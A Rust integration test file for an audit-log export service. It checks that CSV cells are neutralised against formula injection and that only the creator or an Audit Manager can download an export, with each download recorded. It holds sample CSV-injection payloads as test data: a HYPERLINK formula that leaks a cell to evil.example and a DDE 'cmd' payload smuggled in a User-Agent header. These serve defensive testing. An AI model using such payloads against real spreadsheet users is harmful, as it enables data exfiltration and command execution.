//! Exports (issue 10 §10): a CSV cell a spreadsheet would run as a formula is neutralised, in
//! the audit exports and in the records' Export to Excel, and read back by a real CSV reader
//! the value is otherwise intact; an export job's file is its creator's or an Audit Manager's,
//! and each download is recorded.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::common::*;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

/// The rows of a CSV text as Python's csv module reads them.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let output = python(
        &[
            "-c",
            "import csv, io, json, sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8-sig', newline='')))))",
        ],
        text.as_bytes(),
    );
    serde_json::from_slice(&output.stdout).unwrap()
}

fn finished(server: &Server, token: &str, id: &str) {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let status = get_json(&format!("{}/api/audit/exports/{id}", server.base), token);
        if status["status"] == "succeeded" {
            return;
        }
        assert!(Instant::now() < deadline, "{status}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn csv_cells_cannot_run_as_formulas() {
    let server = Server::start(&[]);
    let admin = server.admin();
    let account = entity_id(&send(
        client().post(server.api("accounts")),
        &admin,
        Some(json!({"name": FORMULA, "telephone1": "-12", "description": "@SUM(A1:A9)"})),
    ));
    let records = send(
        client().post(server.api("ExportToExcel")),
        &admin,
        Some(json!({"EntitySetName": "accounts", "Format": "csv",
                    "Select": "name,telephone1,description"})),
    );
    assert_eq!(records.status(), 200);
    let rows = csv_rows(&records.text().unwrap());
    let row = rows
        .iter()
        .find(|r| r.contains(&account))
        .unwrap_or_else(|| panic!("{rows:?}"));
    assert!(row.contains(&format!("'{FORMULA}")), "{row:?}");
    assert!(row.contains(&"'@SUM(A1:A9)".to_string()), "{row:?}");
    assert!(
        row.contains(&"-12".to_string()),
        "a plain number stays a number: {row:?}"
    );

    // The audit log's own export: a user agent is the attacker's text.
    let response = client()
        .patch(server.api(&format!("accounts({account})")))
        .bearer_auth(&admin)
        .header("user-agent", "=cmd|' /C calc'!A0")
        .json(&json!({"telephone1": "+1 425 555 0100"}))
        .send()
        .unwrap();
    assert_eq!(response.status(), 204);
    let csv = send(
        client().get(format!(
            "{}/api/audit/export?format=csv&start=2000-01-01&recordId={account}",
            server.base
        )),
        &admin,
        None,
    );
    assert_eq!(csv.status(), 200);
    let rows = csv_rows(&csv.text().unwrap());
    let cells: Vec<&String> = rows.iter().flatten().collect();
    let live = |c: &str| {
        c.starts_with(['=', '+', '@']) || (c.starts_with('-') && c.parse::<f64>().is_err())
    };
    assert!(cells.iter().all(|c| !live(c)), "{rows:?}");
    assert!(
        cells.iter().any(|c| c.as_str() == "'=cmd|' /C calc'!A0"),
        "the user agent, neutralised: {rows:?}"
    );
    // The record's own JSON in the last column is untouched, so it still verifies.
    let header = &rows[0];
    let data = header.iter().position(|h| h == "AuditData").unwrap();
    for row in &rows[1..] {
        let record: Value = serde_json::from_str(&row[data]).unwrap();
        assert!(record["Id"].is_string());
    }
}

#[test]
fn an_export_file_is_its_creators_or_a_managers_and_each_download_is_recorded() {
    let server = Server::start(&[]);
    let admin = server.admin();
    server.add_user(
        &admin,
        "r1@contoso.test",
        "reader-password-1",
        "Audit Reader",
    );
    server.add_user(
        &admin,
        "r2@contoso.test",
        "reader-password-2",
        "Audit Reader",
    );
    server.add_user(
        &admin,
        "m@contoso.test",
        "manager-password-1",
        "Audit Manager",
    );
    let r1 = server.token("r1@contoso.test", "reader-password-1");
    let r2 = server.token("r2@contoso.test", "reader-password-2");
    let manager = server.token("m@contoso.test", "manager-password-1");
    // A User-Agent is recorded as sent (UTF-8).
    let started = send(
        client()
            .post(format!("{}/api/audit/exports", server.base))
            .header("user-agent", "Zoë/1.0"),
        &r1,
        Some(json!({"format": "csv", "search": "operation=CreateUser"})),
    );
    assert_eq!(started.status(), 202);
    let id = started.json::<Value>().unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    finished(&server, &r1, &id);
    let asked = server.audit(&admin, "operation=ExportAuditLog");
    assert_eq!(asked[0]["UserAgent"], "Zoë/1.0", "{asked:#?}");
    // Its total is exactly what its file holds: CRLF rows after a UTF-8 byte order mark.
    let status = get_json(&format!("{}/api/audit/exports/{id}", server.base), &r1);
    let text = send(
        client().get(format!("{}/api/audit/exports/{id}/file", server.base)),
        &r1,
        None,
    )
    .text()
    .unwrap();
    assert!(text.starts_with('\u{feff}'), "{text}");
    assert!(
        !text.replace("\r\n", "").contains('\n'),
        "every row ends with CRLF"
    );
    let rows = csv_rows(&text);
    assert_eq!(rows[0][0], "Id");
    assert_eq!(status["total"], 3);
    assert_eq!(status["done"], 3);
    assert_eq!(rows.len(), 4, "{rows:?}");
    // The search may be an object of filters; what is neither is refused, never read as "no
    // filter", which would export the whole log.
    let by_object = send(
        client().post(format!("{}/api/audit/exports", server.base)),
        &r1,
        Some(json!({"format": "csv", "search": {"operation": "NoSuchOp"}})),
    );
    assert_eq!(by_object.status(), 202);
    assert_eq!(by_object.json::<Value>().unwrap()["total"], 0);
    for bad in [
        json!(5),
        json!(["operation=Create"]),
        json!({"operation": 1}),
    ] {
        let refused = send(
            client().post(format!("{}/api/audit/exports", server.base)),
            &r1,
            Some(json!({"format": "csv", "search": bad})),
        );
        assert_eq!(odata_error(refused).0, 400, "{bad}");
    }
    let file = format!("{}/api/audit/exports/{id}/file", server.base);
    let other = send(client().get(&file), &r2, None);
    assert_eq!(odata_error(other).0, 403);
    for token in [&r1, &manager] {
        let got = send(client().get(&file), token, None);
        assert_eq!(got.status(), 200);
        assert!(got.text().unwrap().contains("CreateUser"));
    }
    let downloads = server.audit(&admin, "operation=DownloadAuditExport");
    assert_eq!(downloads.len(), 4, "{downloads:#?}");
    let by = |status: &str| -> Vec<String> {
        downloads
            .iter()
            .filter(|d| d["ResultStatus"] == status)
            .map(|d| d["UserUpn"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(by("Denied"), ["r2@contoso.test"]);
    let mut succeeded = by("Succeeded");
    succeeded.sort();
    assert_eq!(
        succeeded,
        ["m@contoso.test", "r1@contoso.test", "r1@contoso.test"]
    );
    assert!(downloads.iter().all(|d| d["Origin"] == "Export"));
}
